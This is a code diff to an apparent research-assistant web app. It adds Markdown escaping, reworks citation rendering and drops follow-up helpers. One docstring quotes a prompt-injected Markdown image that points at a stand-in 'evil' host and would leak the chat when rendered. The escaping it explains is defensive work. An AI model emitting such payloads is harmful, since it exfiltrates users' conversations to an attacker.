@@ -14,13 +14,12 @@ from typing import Literal
 from agent import parse
 from agent.report import Report, stored_report
 from app import events as ev
+from app.export import answer_html, web_url
 from learning.judge.offline import plan_checklist
 from store.records import STAGES, SessionRecord, Snippet
 
 STAGE_TITLES = {"plan": "Plan", "research": "Research", "review": "Review", "answer": "Answer"}
 StageState = Literal["waiting", "running", "complete"]
-_MARKER = re.compile(r"\[(\d+(?:\s*,\s*\d+)*)\]")
-_SAFE_URL = re.compile(r"^https?://", re.IGNORECASE)
 
 
 @dataclass
@@ -165,6 +164,16 @@ def readable(text: str) -> str:
     return " ".join(parse.strip_tags(parse.strip_think(text)).split()) if text.strip() else ""
 
 
+_MD_SPECIAL = re.compile(r"([\\`*_{}\[\]()#+\-.!|<>~])")
+
+
+def md_literal(text: str) -> str:
+    """Text shown literally inside Streamlit Markdown: every Markdown punctuation mark backslash-escaped, so model or
+    web text (queries, titles, checklist items, questions) can never render as an image or a link, e.g. a
+    prompt-injected `![](https://evil/?q=...)` that would leak the chat to a remote server when drawn."""
+    return _MD_SPECIAL.sub(r"\\\1", " ".join(text.split()))
+
+
 def _note_text(kind: str, data: dict[str, object]) -> str:
     match kind:
         case "research_stopped":
@@ -177,6 +186,8 @@ def _note_text(kind: str, data: dict[str, object]) -> str:
             return f"Now serving policy version {data.get('version')}."
         case "policy_swap_failed":
             return f"Could not switch to the newest policy version: {data.get('error')}."
+        case "attribution_failed":
+            return f"References could not be matched to the answer after writing ({data.get('error')})."
         case _:
             return ""
 
@@ -199,23 +210,10 @@ def anchor(session_id: str, number: int) -> str:
 
 
 def cited_html(report: Report, session_id: str) -> str:
-    """The answer as safe HTML: the model's text escaped, [n] markers turned into links to the references panel."""
-    n_refs = len(report.references)
-
-    def link(match: re.Match[str]) -> str:
-        parts = []
-        for raw in match.group(1).split(","):
-            n = int(raw)
-            if 1 <= n <= n_refs:
-                parts.append(f'<a class="cite" href="#{anchor(session_id, n)}" title="source {n}">{n}</a>')
-            else:
-                parts.append(str(n))
-        return "[" + ", ".join(parts) + "]"
-
-    paragraphs = [p for p in re.split(r"\n\s*\n", report.body) if p.strip()]
-    return "\n".join(
-        "<p>" + _MARKER.sub(link, html.escape(p)).replace("\n", "<br>") + "</p>" for p in paragraphs
-    )
+    """The answer as safe HTML (the export's renderer: Markdown drawn, raw HTML escaped, images off), its [n] markers
+    linked to this session's entries in the references panel."""
+    prefix = anchor(session_id, 0)[: -len("0")]
+    return '<div class="answer">' + answer_html(report.body, len(report.references), prefix) + "</div>"
 
 
 def references_html(report: Report, session_id: str) -> str:
@@ -224,36 +222,8 @@ def references_html(report: Report, session_id: str) -> str:
     for n, s in enumerate(report.references, 1):
         title = html.escape(" ".join(s.title.split()) or s.id)
         where = (f'<a href="{html.escape(s.url, quote=True)}" target="_blank" rel="noopener noreferrer">'
-                 f"{html.escape(s.url)}</a>" if _SAFE_URL.match(s.url) else f"<code>{html.escape(s.url or s.id)}</code>")
+                 f"{html.escape(s.url)}</a>" if web_url(s.url) else f"<code>{html.escape(s.url or s.id)}</code>")
         snippet = html.escape(" ".join(s.text.split())[:600])
         items.append(f'<li id="{anchor(session_id, n)}" class="ref"><b>[{n}] {title}</b> · {where} '
                      f"<small>({html.escape(s.tool)})</small><br><small>{snippet}</small></li>")
     return '<ol class="refs">' + "".join(items) + "</ol>" if items else ""
-
-
-# ---- follow-ups ---------------------------------------------------------------------------------------------------
-
-FOLLOW_UP_MARK = "\n\n---\nEarlier in this chat:"
-_EARLIER_ANSWER_CHARS = 600
-
-
-def follow_up_question(typed: str, earlier: list[tuple[str, str]], max_chars: int) -> str:
-    """The question researched for a follow-up: what the user typed, then the last two exchanges as context.
-
-    A follow-up is a session of its own (judged and learned from like any other), so its question must stand
-    alone; the context goes after a marker so `typed_question` can show the user's words. The answers are cut to
-    600 characters and the oldest context is dropped first to stay within `max_chars`.
-    """
-    typed = typed.strip()
-    blocks = [f"Q: {typed_question(q)}\nA: {' '.join(a.split())[:_EARLIER_ANSWER_CHARS]}" for q, a in earlier[-2:]]
-    while blocks:
-        text = typed + FOLLOW_UP_MARK + "\n" + "\n\n".join(blocks)
-        if len(text) <= max_chars:
-            return text
-        blocks.pop(0)
-    return typed
-
-
-def typed_question(question: str) -> str:
-    """What the user typed (a follow-up's context removed)."""
-    return question.split(FOLLOW_UP_MARK, 1)[0]
